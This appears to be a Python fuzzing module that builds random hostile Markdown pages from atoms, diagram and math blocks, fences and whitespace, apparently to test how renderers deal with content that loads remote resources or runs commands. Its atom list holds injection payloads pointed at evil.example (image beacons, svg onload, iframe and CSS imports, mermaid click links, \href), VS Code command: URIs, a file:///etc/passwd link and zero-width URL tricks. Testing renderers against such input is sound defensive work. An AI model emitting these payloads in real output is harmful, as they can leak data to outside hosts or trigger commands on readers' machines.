"""Pages that want to load, lead or run something: a grammar of Markdown and its extensions."""

from __future__ import annotations

import random

URL = "https://evil.example/?q=CODE"
ATOMS = f"""
[ ] ( ) ! < > ` `` ``` ```` ~~~ \\ \\\\ | - * _ # : :: ::: a b $ $$ $`$ `$ $` {{ }} @ % & ^ ~ = + /
[a] [a]: [a](b) ![a](b) [^1] [^1]: ^[n] [[w]] [[toc]] [x] "t" 'x' (t) 1. 2) - * + > >> # ##
=== --- +++
[a]({URL}) ![a]({URL}) ![](<{URL}>) [a]:{URL} [![b]({URL})]({URL}) <{URL}> {URL} www.evil.example
a@evil.example //evil.example mailto:a@b.c command:run command:workbench.action.terminal.new
<img/src={URL}> <b> </b> <a/href=x> <!-- --> <? ?> <script> </script> <pre> <style> <svg/onload=x>
<![CDATA[ ]]> <details> <iframe/src=x> <math> <video/src={URL}> &#91; &lt; &#36; &lt;img&gt; &colon;
mermaid math katex latex plantuml dot vega-lite {{.x}} {{src={URL}}} {{style=a:url({URL})}}
\\( \\) \\[ \\] \\begin{{align}} \\end{{align}} \\href{{{URL}}}{{a}} \\includegraphics{{{URL}}}
\\url{{x}}
{{{{x}}}} {{%x%}} :::mermaid :::note :img[a]{{src={URL}}} ::img{{}} @import !!!note ???x
[TOC] :smile:
|a|b| |-|-| |:-| ==m== ++i++ ~~s~~ H~2~O x^2^ `a` `[a](b)` `<b>` `$x` ``a`b`` `|` *a* **b** __c__
[[w|a]] ![[{URL}]] [a](vscode:x/y) <vscode:x/y> [a](file:///etc/passwd) <command:run> \u200b \u2060
https://пример.рф www.пример.рф ht\u200btps://evil.example HTTPS://EVIL.EXAMPLE
https:\\\\evil.example &#x5b;a&#x5d;&#x28;{URL}&#x29; &#33;[a]({URL})
&lbrack;a&rbrack;&lpar;{URL}&rpar; &excl;[a]({URL})
[b]:<{URL}> \\[b]:{URL} [^1]:{URL} [^n]:![a]({URL}) ^[![a]({URL})] *[HTML]:{URL} @[video]({URL})
<base/href={URL}> <object/data={URL}> <svg><image/href={URL}/></svg> <style>@import"{URL}";</style>
<!--><img/src={URL}>--> <xmp> <template> <textarea> {{{{math}}}}`\\href{{{URL}}}{{x}}`
!include({URL}) $\\def\\x{{\\href{{{URL}}}}}\\x{{a}}$ $`\\href{{{URL}}}{{x}}`$
[a\\]({URL}) !\\[a]({URL}) [a]\\({URL}) [a][]
""".split()
BLOCKS = (
    f'flowchart LR\n A@{{ img: "{URL}", label: "x" }}\n',
    f'flowchart LR\n A[m]\n click A href "{URL}" "x" _blank\n',
    f'%%{{init: {{"themeCSS": ".node{{background:url({URL})}}"}}}}%%\nflowchart LR\n A-->B\n',
    f"\\href{{{URL}}}{{a}}\n",
    f"![a]({URL})\n[b]({URL})\n",
)
OPENERS = ("```mermaid", "~~~mermaid", "```math", "::: mermaid", "$$", "```{.mermaid}",
           "```js {cmd=x}", "``` mermaid", "- ```mermaid", "> ```mermaid", "  ````mermaid",
           "```Mermaid", "```\tmath", "1. ```mermaid", "---", "+++", "```", "~~~", "<details>",
           "`$$", "\\begin{align}")  # fmt: skip
CLOSERS = (
    "```",
    "~~~",
    ":::",
    "$$",
    "````",
    "> ```",
    "  ```",
    "---",
    "",
    "\\end{align}",
    "   ~~~~",
)
SPACES = (
    "\n",
    "\n\n",
    " ",
    " ",
    "",
    "    ",
    "\t",
    "\n> ",
    "\n- ",
    "\n    ",
    "\n1. ",
    "\r",
    "\x0c",
    "\xa0",
)


def hostile_page(rng: random.Random) -> str:
    """One page; the same for the same state of `rng`."""
    pieces: list[str] = []
    for _ in range(rng.randint(1, 30)):
        if rng.random() < 0.1:
            opener, closer = rng.choice(OPENERS), rng.choice(CLOSERS)
            pieces += ("\n", opener, "\n", rng.choice(BLOCKS), closer, "\n")
        else:
            pieces += (rng.choice(ATOMS), rng.choice(SPACES))
    return "".join(pieces)
